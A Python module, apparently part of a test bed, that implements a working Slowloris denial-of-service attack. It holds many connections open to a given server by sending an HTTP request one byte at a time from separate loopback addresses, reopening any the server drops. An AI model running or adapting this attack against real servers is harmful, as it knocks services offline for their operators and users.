"""Slowloris: connections that send an HTTP request octet by octet, slowly: ``python -m bed.dribble IP PORT COUNT``.

Each connection comes from its own loopback address, like those of as many machines. If the server closes one, the
program opens it again. It prints ``dribbling`` when all are open, and runs until it is killed.
"""

from __future__ import annotations

import socket
import sys
import time

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 10_000
EVERY = 0.2  # seconds between two octets of a connection


def main() -> None:
    """Runs until it is killed."""
    server, count = (sys.argv[1], int(sys.argv[2])), int(sys.argv[3])
    connections: dict[int, tuple[socket.socket, int]] = {}
    told = False
    while True:
        began = time.monotonic()
        for number in range(count):
            if number not in connections:
                connections[number] = connect(server, f"127.3.{number // 250}.{number % 250 + 1}"), 0
                continue
            sock, at = connections[number]
            try:
                sock.send(REQUEST[at : at + 1])
            except BlockingIOError:
                continue
            except OSError:
                sock.close()
                del connections[number]
            else:
                connections[number] = sock, at + 1
        if not told:
            print("dribbling", flush=True)
            told = True
        time.sleep(max(0.0, began + EVERY - time.monotonic()))


def connect(server: tuple[str, int], source: str) -> socket.socket:
    """Opens a connection that is not established yet when this returns."""
    sock = socket.socket()
    sock.bind((source, 0))
    sock.setblocking(False)
    sock.connect_ex(server)
    return sock


if __name__ == "__main__":
    main()
